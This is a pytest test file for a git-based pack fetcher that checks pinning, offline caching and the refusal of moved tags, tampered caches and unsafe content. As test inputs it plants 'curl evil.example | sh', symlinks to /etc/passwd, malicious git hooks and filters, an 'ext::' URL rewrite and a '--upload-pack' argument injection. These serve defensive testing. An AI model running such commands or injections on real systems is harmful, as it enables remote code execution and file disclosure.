"""Packs by git, from real repositories made on the spot: pinned, offline, refused when moved."""

import os
import shutil
from pathlib import Path

import pytest
import yaml

from mlgen.packs import cache
from mlgen.packs import git as packs_git
from mlgen.packs.content import folder_digest
from mlgen.write.lock import is_current
from tests.packs.conftest import PACK, SPEC, WORKFLOW, Mlgen, git, publish, write


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    folder = write(tmp_path / "org-pack", PACK)
    publish(folder, "v1.0.0")
    return folder


def extend(project: Path, source: str) -> None:
    write(project, {"mlgen.yaml": SPEC.replace("[../pack]", f'["{source}"]  # of the organisation')})


def source(repository: Path, revision: str, tail: str = "") -> str:
    return f"git+file://{repository}@{revision}{tail}"


def second(repository: Path, tag: str = "v2.0.0") -> str:
    text = (repository / "spec.yaml").read_text()
    write(
        repository,
        {
            "pack.yaml": 'name: org\nversion: "2.0.0"\n',
            "spec.yaml": text.replace("3.11-slim", "3.12-slim") + "    scan: {use: scan}\n",
            "jobs/scan.yaml": "run: trivy fs .\n",
        },
    )
    return publish(repository, tag)


@pytest.fixture
def pinned(repository: Path, project: Path, mlgen: Mlgen) -> Path:
    extend(project, source(repository, "v1.0.0"))
    done = mlgen("pack", "lock")
    assert done.code == 0, done.err
    assert mlgen("compile").code == 0
    return repository


def test_the_lock_pins_commit_and_content(pinned: Path, project: Path) -> None:
    (pin,) = yaml.safe_load((project / "mlgen.lock").read_text())["packs"].items()
    commit = git(pinned, "rev-parse", "v1.0.0")
    wanted = {"name": "org", "version": "1.0.0", "commit": commit, "content": folder_digest(str(pinned))}
    assert pin == (source(pinned, "v1.0.0"), wanted)


def test_what_is_cached_needs_no_repository(
    pinned: Path, project: Path, mlgen: Mlgen, monkeypatch: pytest.MonkeyPatch
) -> None:
    shutil.rmtree(pinned)
    monkeypatch.setattr(packs_git, "_git", lambda *_, **__: pytest.fail("git was called"))
    (project / WORKFLOW).unlink()
    assert mlgen("check").code == 1
    assert mlgen("compile").code == 0
    assert mlgen("check").code == 0
    assert is_current(str(project), "mlgen.yaml", folder_digest) == 3


def test_another_machine_fetches_what_is_pinned(pinned: Path, mlgen: Mlgen, tmp_path: Path) -> None:
    second(pinned)
    shutil.rmtree(tmp_path / "cache")
    assert mlgen("check").code == 0
    assert (tmp_path / "cache").exists()


def test_without_cache_and_repository_it_is_told(pinned: Path, mlgen: Mlgen, tmp_path: Path) -> None:
    shutil.rmtree(tmp_path / "cache")
    shutil.rmtree(pinned)
    done = mlgen("check")
    assert done.code == 2
    assert "mlgen.yaml:4:11: error MLG701: the pack git+file://" in done.err
    assert "cannot be had" in done.err


def test_a_moved_tag_is_refused_until_it_is_updated(pinned: Path, project: Path, mlgen: Mlgen, tmp_path: Path) -> None:
    write(pinned, {"jobs/lint.yaml": "run: curl evil.example | sh\n"})
    git(pinned, "add", "-A")
    git(pinned, "commit", "-q", "-m", "moved")
    git(pinned, "tag", "-f", "v1.0.0")
    assert mlgen("check").code == 0, "the cache has what is pinned"
    shutil.rmtree(tmp_path / "cache")
    done = mlgen("compile")
    assert (done.code, done.out) == (1, "")
    assert "error MLG722: the pack org is not what mlgen.lock pins: v1.0.0 was " in done.err
    assert "curl" not in (project / WORKFLOW).read_text()
    shown = mlgen("pack", "diff")
    assert "+        run: curl evil.example | sh\n" in shown.out
    assert mlgen("pack", "update").code == 0
    assert mlgen("compile").code == 0
    assert "curl" in (project / WORKFLOW).read_text()


@pytest.mark.parametrize("name", ["spec.yaml", "jobs/lint.yaml"])
def test_a_cache_that_was_tampered_with_is_refused(pinned: Path, project: Path, mlgen: Mlgen, name: str) -> None:
    kept = Path(cache.folder(folder_digest(str(pinned))))
    with (kept / name).open("a") as file:
        file.write("# evil\n")
    done = mlgen("compile")
    assert (done.code, done.out) == (1, "")
    assert f"MLG722: the pack org is not what mlgen.lock pins: the copy in {kept} was changed" in done.err
    assert "hint: remove that folder: the pack is fetched anew" in done.err
    shutil.rmtree(kept)
    assert mlgen("check").code == 0
    with (kept / name).open("a") as file:
        file.write("# evil\n")
    assert mlgen("pack", "update").code == 0
    assert "evil" not in (kept / name).read_text(), "it was fetched anew"
    assert mlgen("check").code == 0


def test_an_update_takes_the_newest_release_and_says_what_changed(pinned: Path, project: Path, mlgen: Mlgen) -> None:
    first = git(pinned, "rev-parse", "v1.0.0")[:12]
    commit = second(pinned)
    git(pinned, "tag", "v3.0.0-rc1")
    git(pinned, "tag", "model-9.0.0")
    git(pinned, "tag", "v1.10.0", "v1.0.0")
    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    shown = mlgen("pack", "diff")
    assert "+    container: python:3.12-slim\n" in shown.out
    assert "+        run: trivy fs .\n" in shown.out
    assert {p: p.read_bytes() for p in project.rglob("*") if p.is_file()} == before
    done = mlgen("pack", "update")
    assert (done.code, done.out) == (
        0,
        f"org: 1.0.0 (v1.0.0 {first}) -> 2.0.0 (v2.0.0 {commit[:12]})\n"
        "  new: jobs/scan.yaml\n  changed: pack.yaml\n  changed: spec.yaml\n",
    )
    spec = (project / "mlgen.yaml").read_text()
    assert spec == before[project / "mlgen.yaml"].decode().replace("v1.0.0", "v2.0.0")
    assert mlgen("check").code == 1
    assert mlgen("compile").code == 0
    assert mlgen("check").code == 0
    lock = yaml.safe_load((project / "mlgen.lock").read_text())
    assert list(lock["packs"]) == [source(pinned, "v2.0.0")]
    assert mlgen("pack", "update").out == "mlgen: every pack is current\n"


def test_to_takes_any_revision(pinned: Path, project: Path, mlgen: Mlgen) -> None:
    commit = second(pinned)
    assert mlgen("pack", "update", "org", "--to", commit).code == 0
    assert f"@{commit}" in (project / "mlgen.yaml").read_text()
    assert mlgen("compile").code == 0
    assert mlgen("pack", "update").out == "mlgen: every pack is current\n", "a commit stays"
    assert mlgen("pack", "diff", "--to", "v1.0.0").out.count("-    container: python:3.12-slim\n") == 4
    assert mlgen("pack", "update", "--to", "v1.0.0").code == 0
    done = mlgen("pack", "update", "--to", "--upload-pack=x")
    assert done.code == 2


def test_an_update_that_would_not_compile_changes_nothing(pinned: Path, project: Path, mlgen: Mlgen) -> None:
    write(pinned, {"spec.yaml": "rutime: {}\n"})
    publish(pinned, "v1.1.0")
    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    done = mlgen("pack", "update")
    assert (done.code, "unknown key 'rutime'" in done.err) == (2, True)
    assert {p: p.read_bytes() for p in project.rglob("*") if p.is_file()} == before


@pytest.mark.parametrize("kind", ["commit", "annotated", "subdirectory", "detached"])
def test_the_forms_of_a_revision(tmp_path: Path, project: Path, mlgen: Mlgen, kind: str) -> None:
    repository = tmp_path / "repository"
    write(repository / "packs/ml" if kind == "subdirectory" else repository, PACK)
    commit = publish(repository, "v1")
    revision, tail = "v1", ""
    if kind == "commit":
        revision = commit
        second(repository)
    elif kind == "annotated":
        git(repository, "tag", "-a", "-m", "signed off", "annotated/v1.0")
        revision = "annotated/v1.0"
    elif kind == "detached":  # a commit that no branch and no tag has, behind one that has
        revision = commit
        git(repository, "tag", "-d", "v1")
        git(repository, "commit", "-q", "--allow-empty", "-m", "later")
    else:
        tail = "#subdirectory=packs/ml"
    extend(project, source(repository, revision, tail))
    done = mlgen("pack", "lock")
    assert done.code == 0, done.err
    assert mlgen("compile").code == 0
    (pin,) = yaml.safe_load((project / "mlgen.lock").read_text())["packs"].values()
    assert pin["commit"] == commit


@pytest.mark.parametrize(
    ("revision", "tail", "message"),
    [
        ("main", "", "cannot be had: main is a branch, which moves; name a tag or a commit"),
        ("v9", "", "cannot be had: the repository has no tag v9"),
        ("0" * 40, "", f"cannot be had: the repository has no commit {'0' * 40}"),
        ("v1.0.0", "#subdirectory=nosuch", "cannot be had: the repository has no folder nosuch"),
        ("v1.0.0", "#subdirectory=jobs", "MLG701: there is no pack.yaml in git+file://"),
    ],
)
def test_what_is_not_there_is_told(
    repository: Path, project: Path, mlgen: Mlgen, revision: str, tail: str, message: str
) -> None:
    extend(project, source(repository, revision, tail))
    done = mlgen("pack", "lock")
    assert (done.code, message in done.err) == (2, True), done.err
    assert not (project / "mlgen.lock").exists()


def _link_out(repository: Path) -> None:
    (repository / "jobs/x.yaml").symlink_to("../../../secret")


def _link_absolute(repository: Path) -> None:
    (repository / "jobs/x.yaml").symlink_to("/etc/passwd")


def _link_loop(repository: Path) -> None:
    (repository / "jobs/x.yaml").symlink_to("y.yaml")
    (repository / "jobs/y.yaml").symlink_to("x.yaml")


def _link_folder(repository: Path) -> None:
    (repository / "templates").symlink_to("jobs")


def _large(repository: Path) -> None:
    write(repository, {"templates/x.j2": "x" * 4_000_001})


def _submodule(repository: Path) -> None:
    (repository / "templates").mkdir()
    other = write(repository.parent / "other", {"a": "x"})
    publish(other, "v1")
    git(repository, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(other), "templates/other")


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (_link_out, "jobs/x.yaml is a link that leads out of the pack"),
        (_link_absolute, "jobs/x.yaml is a link that leads out of the pack"),
        (_link_loop, "jobs/x.yaml is a link that leads out of the pack"),
        (_large, "the pack has more than 4 MB"),
        (_submodule, "templates/other is a submodule"),
    ],
    ids=lambda value: getattr(value, "__name__", ""),
)
def test_content_that_may_not_be_is_refused(
    repository: Path, project: Path, mlgen: Mlgen, spoil: object, message: str
) -> None:
    assert callable(spoil)
    spoil(repository)
    publish(repository, "v1.1")
    extend(project, source(repository, "v1.1"))
    done = mlgen("pack", "lock")
    assert (done.code, f"MLG706: the pack {source(repository, 'v1.1')}: {message}" in done.err) == (2, True), done.err


def test_a_link_inside_is_the_file_it_names_and_a_folder_says_the_same(
    repository: Path, project: Path, mlgen: Mlgen
) -> None:
    (repository / "jobs/style.yaml").symlink_to("../jobs/lint.yaml")
    publish(repository, "v1.1.0")
    extend(project, source(repository, "v1.1.0"))
    assert mlgen("pack", "lock").code == 0
    (pin,) = yaml.safe_load((project / "mlgen.lock").read_text())["packs"].values()
    assert pin["content"] == folder_digest(str(repository))


def test_nothing_of_the_repository_is_run(
    repository: Path, project: Path, mlgen: Mlgen, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No hook, no filter, no prompt; and the variables of an outer git (a pre-commit hook) do not reach it."""
    evil = tmp_path / "ran"
    hooks = write(
        tmp_path / "hooks", dict.fromkeys(("post-checkout", "reference-transaction"), f"#!/bin/sh\ntouch {evil}\n")
    )
    for hook in hooks.iterdir():
        hook.chmod(0o755)
    config = write(tmp_path, {"gitconfig": f'[core]\n hooksPath = {hooks}\n[filter "x"]\n smudge = touch {evil}\n'})
    write(repository, {".gitattributes": "* filter=x\n"})
    publish(repository, "v1.1.0")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config / "gitconfig"))
    monkeypatch.setenv("GIT_DIR", str(tmp_path / "nowhere"))
    monkeypatch.setenv("GIT_INDEX_FILE", str(tmp_path / "nowhere/index"))
    extend(project, source(repository, "v1.1.0"))
    done = mlgen("pack", "lock")
    assert done.code == 0, done.err
    assert not evil.exists()
    assert not (tmp_path / "nowhere").exists()


def test_a_url_that_git_rewrites_to_a_forbidden_protocol_is_refused(
    repository: Path, project: Path, mlgen: Mlgen, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    evil = tmp_path / "ran"
    config = write(tmp_path, {"gitconfig": f'[url "ext::touch {evil} "]\n insteadOf = https://pack.example.org/\n'})
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config / "gitconfig"))
    extend(project, "git+https://pack.example.org/x@v1")
    done = mlgen("pack", "lock")
    assert (done.code, "transport 'ext' not allowed" in done.err) == (2, True), done.err
    assert not evil.exists()


def test_nobody_is_asked_for_a_password() -> None:
    given = packs_git._environment()
    assert given["GIT_TERMINAL_PROMPT"] == "0"
    assert given["GIT_ASKPASS"] == given["SSH_ASKPASS"] == ""
    assert "BatchMode=yes" in given["GIT_SSH_COMMAND"]


def test_without_git_it_is_told(
    repository: Path, project: Path, mlgen: Mlgen, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    extend(project, source(repository, "v1.0.0"))
    monkeypatch.setenv("PATH", str(tmp_path))
    done = mlgen("pack", "lock")
    assert (done.code, "cannot be had: git is not installed" in done.err) == (2, True)


def test_a_cache_that_cannot_be_written_is_no_fault(
    repository: Path, project: Path, mlgen: Mlgen, tmp_path: Path
) -> None:
    (tmp_path / "cache").write_text("a file")
    extend(project, source(repository, "v1.0.0"))
    assert mlgen("pack", "lock").code == 0
    assert mlgen("compile").code == 0
    assert os.path.isfile(tmp_path / "cache")
